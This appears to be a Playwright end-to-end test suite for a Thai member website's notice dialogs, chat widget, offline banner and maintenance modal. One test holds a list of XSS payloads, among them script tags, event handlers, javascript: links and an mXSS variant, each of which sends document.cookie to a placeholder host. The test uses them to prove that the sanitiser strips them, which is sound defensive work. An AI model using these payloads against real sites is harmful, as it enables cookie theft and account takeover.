import AxeBuilder from '@axe-core/playwright';
import type { Page, Request } from '@playwright/test';
import type { BrandConfig } from '@lobby/brand';
import { expect, test } from '../fixtures';
import { fundViaApi, operator, registerViaApi, type NewMember } from '../sandbox';

/**
 * Issue #12's proof, per brand, against the real platform server: notices published with the admin CLI (aimed at the
 * test's own member through a bank group of its own, so no other test is greeted by them), their 2-hour rule on the
 * page's clock, bank notices, hostile HTML, the closed switch, live chat and going offline.
 */

let groups = 0;

/** The site asks the platform whether it is open or in maintenance every 20 s (MAINTENANCE_POLL_MS in the shell). */
const MAINTENANCE_POLL_MS = 20_000;

/** A fresh member in a bank group of their own, with these notices published for that group by the admin CLI. */
async function memberWithNotices(apiURL: string, brand: BrandConfig, ...notices: string[][]): Promise<NewMember> {
  const member = await registerViaApi(apiURL, brand.defaultGroupId);
  groups += 1;
  const bankGroup = `e2e${Date.now().toString(36)}${groups}${Math.random().toString(36).slice(2, 6)}`.slice(0, 20);
  await operator(apiURL, 'member', 'bank-group', member.username, bankGroup);
  for (const args of notices)
    await operator(apiURL, 'notice', 'publish', '--group', brand.defaultGroupId, '--customer', bankGroup, ...args);
  return member;
}

async function logIn(page: Page, member: NewMember, query = '') {
  await page.goto(`/login${query}`);
  await page.getByLabel('ชื่อผู้ใช้').fill(member.username);
  await page.getByLabel('รหัสผ่าน', { exact: true }).fill(member.password);
  await page.getByRole('button', { name: 'เข้าสู่ระบบ', exact: true }).last().click();
  await expect(page.getByTestId('member-balance').first()).toBeAttached();
}

/**
 * The notices widget (banner, chat, announcements) loads once the page is interactive: call before the navigation,
 * await after it.
 */
const noticesLoaded = (page: Page) => page.waitForResponse((r) => /\/assets\/SiteNotices-[\w-]+\.js$/.test(r.url()));

const isGetNotifys = (request: Request) =>
  request.url().endsWith('/graphql') && (request.postData() ?? '').includes('GetNotifys');

/** Counts the page's getNotifys calls. */
function countNotices(page: Page) {
  const calls: Request[] = [];
  page.on('request', (request) => {
    if (isGetNotifys(request)) calls.push(request);
  });
  return calls;
}

/** Opens the home page and waits for its notices fetch to be answered (or for a moment when none is due). */
async function visitHome(page: Page, expectFetch: boolean) {
  const answered = expectFetch ? page.waitForResponse((r) => isGetNotifys(r.request())) : null;
  await page.goto('/');
  await expect(page.getByTestId('member-balance').first()).toBeAttached();
  if (answered) await answered;
  else await page.waitForTimeout(1500);
}

test.describe('notices', () => {
  test('a notice from the admin CLI shows once, and again only 2 hours after it was dismissed', async ({
    page,
    brand,
    apiURL,
  }) => {
    const member = await memberWithNotices(apiURL, brand, [
      '--type',
      'promotion',
      '--title',
      'โปรโมชั่นทดสอบ',
      '--content',
      '<p>รับโบนัส <strong>20%</strong></p>',
    ]);
    await page.clock.install();
    const fetches = countNotices(page);
    await logIn(page, member, '?url=%2Fhelp');
    await visitHome(page, true);
    const dialog = page.getByRole('dialog', { name: 'โปรโมชั่นทดสอบ' });
    await expect(dialog).toContainText('รับโบนัส 20%');
    await dialog.getByTestId('notice-ok').click();
    await expect(dialog).toBeHidden();

    await visitHome(page, false);
    expect(fetches).toHaveLength(1);
    await expect(page.getByRole('dialog')).toHaveCount(0);

    await page.clock.fastForward('11:00');
    await visitHome(page, true);
    expect(fetches).toHaveLength(2);
    await expect(page.getByRole('dialog')).toHaveCount(0);

    await page.clock.fastForward('01:50:00');
    await visitHome(page, true);
    await expect(page.getByRole('dialog', { name: 'โปรโมชั่นทดสอบ' })).toBeVisible();
  });

  test('a bank notice has no close button and ignores Esc; its button confirms it @phone', async ({
    page,
    brand,
    apiURL,
  }) => {
    const member = await memberWithNotices(apiURL, brand, [
      '--type',
      'bank',
      '--title',
      'แจ้งเปลี่ยนบัญชีธนาคาร',
      '--content',
      '<p>บัญชีฝากเงินมีการเปลี่ยนแปลง</p>',
    ]);
    await logIn(page, member);
    const dialog = page.getByRole('dialog', { name: 'แจ้งเปลี่ยนบัญชีธนาคาร' });
    await expect(dialog).toBeVisible();
    await expect(dialog.getByRole('button', { name: 'ปิด' })).toHaveCount(0);
    await expect(dialog.getByTestId('notice-ok')).toBeFocused();
    await page.keyboard.press('Escape');
    await page.mouse.click(5, 5);
    await expect(dialog).toBeVisible();
    const results = await new AxeBuilder({ page }).withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa']).analyze();
    expect(results.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical')).toEqual([]);
    await dialog.getByTestId('notice-ok').click();
    await expect(dialog).toBeHidden();
  });

  test('the forced deposit-account notice comes first at login, and confirming clears the flag', async ({
    page,
    brand,
    apiURL,
  }) => {
    const member = await memberWithNotices(apiURL, brand, ['--title', 'ประกาศทั่วไป', '--content', '<p>สวัสดี</p>']);
    await operator(apiURL, 'member', 'upgrade', member.username);
    await logIn(page, member);
    const forced = page.getByRole('dialog', { name: 'แจ้งเปลี่ยนบัญชีฝากเงิน' });
    await expect(forced).toContainText('ประกาศ 1 จาก 2');
    // The suite's access tokens live 8 s: on a slow run the first answer may be 7003, and the client refreshes and
    // sends it again (spec §8). The answer that counts is the one that went through.
    const confirmed = page.waitForResponse(
      async (r) =>
        r.url().endsWith('/api/v1/member/data/update-is-upgrade') &&
        ((await r.json()) as { code: number }).code !== 7003,
    );
    await forced.getByRole('button', { name: 'รับทราบ ตรวจสอบบัญชีใหม่แล้ว' }).click();
    expect(await (await confirmed).json()).toMatchObject({ code: 0, result: { is_upgrade: false } });
    await expect(page.getByRole('dialog', { name: 'ประกาศทั่วไป' })).toBeVisible();
  });

  test('hostile notice HTML runs nothing: no dialog, no console error, no request to a planted URL', async ({
    page,
    brand,
    apiURL,
  }) => {
    const planted = 'planted.invalid';
    const run = `fetch('http://${planted}/'+document.cookie);alert(document.domain);window.__pwned=1`;
    const payloads = [
      `<script>${run}</script>`,
      `<img src="data:," onerror="${run}">`,
      `<svg onload="${run}"><circle r="4"></circle></svg>`,
      `<a href="javascript:${run}" data-testid="js-link">javascript link</a>`,
      `<a href="JaVaScRiPt:${run}">mixed case</a>`,
      `<iframe srcdoc="<script>${run}</script>"></iframe>`,
      `<div style="width: expression(${run}); background: url(http://${planted}/bg.png)">CSS expression</div>`,
      `<style>@import 'http://${planted}/x.css';</style>`,
      `<form action="http://${planted}/"><button>ส่ง</button></form>`,
      `<details open ontoggle="${run}">details</details>`,
      `<object data="http://${planted}/x"></object><embed src="http://${planted}/y">`,
      `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
    ];
    const member = await memberWithNotices(apiURL, brand, [
      '--title',
      'ทดสอบ HTML',
      '--content',
      `<p>ข้อความที่ปลอดภัย</p>${payloads.join('')}`,
    ]);
    const dialogs: string[] = [];
    const errors: string[] = [];
    const plantedRequests: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('console', (message) => {
      if (message.type() === 'error') errors.push(message.text());
    });
    page.on('pageerror', (error) => errors.push(error.message));
    page.on('request', (request) => {
      if (request.url().includes(planted)) plantedRequests.push(request.url());
    });
    // The CSP would stop an inline script too: the proof is that the sanitiser left it nothing to stop.
    await page.addInitScript(() => {
      (window as unknown as { __violations: string[] }).__violations = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        (window as unknown as { __violations: string[] }).__violations.push(event.violatedDirective),
      );
    });

    await logIn(page, member);
    const dialog = page.getByRole('dialog', { name: 'ทดสอบ HTML' });
    const content = dialog.getByTestId('notice-content');
    await expect(content).toContainText('ข้อความที่ปลอดภัย');
    await content.getByText('javascript link').click();
    await content.getByText('mixed case').click();
    await page.waitForTimeout(1000);

    expect(await content.locator('script, iframe, svg, math, style, form, object, embed').count()).toBe(0);
    const attributes = await content.evaluate((root) =>
      [...root.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => `${a.name}=${a.value}`)),
    );
    expect(attributes.filter((a) => /^on|^style=|javascript:/i.test(a))).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(errors).toEqual([]);
    expect(plantedRequests).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)).toEqual([]);
    await expect(dialog).toBeVisible();
  });

  test('the chat widget loads only where the brand configures it; its button appears after the load @brand', async ({
    page,
    brand,
    apiURL,
  }) => {
    const csp = (await page.request.get('/')).headers()['content-security-policy'] ?? '';
    const scriptSrc = /script-src ([^;]*)/.exec(csp)?.[1];
    const chatRequests: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('/sandbox/chat/')) chatRequests.push(request.url());
    });
    if (!brand.liveChat) {
      expect(scriptSrc).toBe("'self'");
      const loaded = noticesLoaded(page);
      await page.goto('/help');
      await loaded;
      await page.waitForTimeout(2500);
      expect(chatRequests).toEqual([]);
      await expect(page.getByTestId('chat-button')).toHaveCount(0);
      return;
    }

    expect(scriptSrc).toBe(`'self' ${new URL(apiURL).origin}`);
    // The first two tries fail (the chat vendor is slow to answer); the third one loads.
    let tries = 0;
    await page.route('**/sandbox/chat/widget.js', (route) => (++tries <= 2 ? route.abort() : route.continue()));
    const loaded = noticesLoaded(page);
    await page.goto('/help');
    await loaded;
    await expect(page.getByTestId('chat-button')).toHaveCount(0);
    const button = page.getByTestId('chat-button');
    await expect(button).toBeVisible({ timeout: 10_000 });
    expect(tries).toBe(3);
    await button.click();
    const panel = page.getByTestId('chat-panel');
    await expect(panel).toContainText('สวัสดีค่ะ ทีมงานยินดีให้บริการ');
    await panel.getByRole('textbox').fill('ฝากเงินไม่เข้า');
    await panel.getByRole('textbox').press('Enter');
    await expect(panel.getByTestId('chat-messages')).toContainText('ได้รับข้อความแล้ว: ฝากเงินไม่เข้า');

    await page.goto('/en/help');
    await page.getByTestId('chat-button').click();
    await expect(page.getByTestId('chat-panel')).toContainText('Hello! Our team is here to help.');
  });

  test('the phone tab bar’s contact item turns into the chat once it has loaded @phone', async ({
    page,
    brand,
    isMobile,
  }) => {
    test.skip(!brand.liveChat || !isMobile, 'a phone of a brand with a live chat');
    await page.goto('/help');
    const tabBar = page.getByRole('navigation', { name: 'เมนูด่วน' });
    const chat = tabBar.getByRole('button', { name: 'แชตสด' });
    await expect(chat).toBeVisible({ timeout: 15_000 });
    await chat.click();
    await expect(page.getByTestId('chat-panel')).toBeVisible();
  });

  test('offline: a banner in either language, polls pause; back online the page catches up @phone', async ({
    page,
    context,
    brand,
    apiURL,
  }) => {
    const member = await registerViaApi(apiURL, brand.defaultGroupId);
    await page.clock.install();
    const loaded = noticesLoaded(page);
    await logIn(page, member, '?url=%2Fhelp');
    await loaded;
    await expect(page.getByTestId('balance').first()).toHaveText(/0\.00/);
    const rootChecks: string[] = [];
    page.on('request', (request) => {
      if (request.url().startsWith(`${apiURL}/?`)) rootChecks.push(request.url());
    });

    await context.setOffline(true);
    const banner = page.getByTestId('offline-banner');
    await expect(banner).toContainText('ไม่มีการเชื่อมต่ออินเทอร์เน็ต');
    await page.clock.fastForward('01:00');
    expect(rootChecks).toEqual([]);
    await fundViaApi(apiURL, member.username, 500);
    await expect(page.getByTestId('api-failure')).toHaveCount(0);

    await context.setOffline(false);
    await expect(banner).toBeHidden();
    await expect(page.getByText('กลับมาเชื่อมต่อแล้ว')).toBeVisible();
    await expect(page.getByTestId('balance').first()).toHaveText(/500\.00/);
    expect(rootChecks.length).toBeGreaterThan(0);

    const reloaded = noticesLoaded(page);
    await page.goto('/en/help');
    await reloaded;
    await context.setOffline(true);
    await expect(page.getByTestId('offline-banner')).toContainText('You are offline');
    await context.setOffline(false);
    await expect(page.getByTestId('offline-banner')).toBeHidden();
    await expect(page.getByText('You are back online')).toBeVisible();
  });

  test('@exclusive @brand the brand closed: a blocking modal within one poll, no notices; opened: released', async ({
    page,
    brand,
    apiURL,
  }) => {
    const member = await memberWithNotices(apiURL, brand, ['--title', 'ประกาศหลังเปิด', '--content', '<p>ok</p>']);
    const fetches = countNotices(page);
    // The page's clock, so "within one poll" is one poll's time moved on, not 20 s waited twice.
    await page.clock.install();
    await logIn(page, member, '?url=%2Fhelp');
    await operator(apiURL, 'site', 'closed', '--group', brand.defaultGroupId);
    try {
      const closed = page.getByRole('dialog', { name: 'ระบบมีปัญหาการใช้งาน' });
      await page.clock.fastForward(MAINTENANCE_POLL_MS);
      await expect(closed).toBeVisible();
      await page.keyboard.press('Escape');
      await expect(closed).toBeVisible();

      // On the home page while closed: the blocking modal, and no notice is asked for.
      await page.goto('/');
      await expect(closed).toBeVisible();
      await page.waitForTimeout(2000);
      expect(fetches).toEqual([]);
      await page.evaluate(() => ((window as unknown as { __sameVisit: boolean }).__sameVisit = true));
    } finally {
      await operator(apiURL, 'site', 'open', '--group', brand.defaultGroupId);
    }
    await page.clock.fastForward(MAINTENANCE_POLL_MS);
    await expect(page.getByRole('dialog', { name: 'ระบบมีปัญหาการใช้งาน' })).toBeHidden();
    await expect(page.getByRole('dialog', { name: 'ประกาศหลังเปิด' })).toBeVisible();
    expect(await page.evaluate(() => (window as unknown as { __sameVisit?: boolean }).__sameVisit)).toBe(true);
  });
});
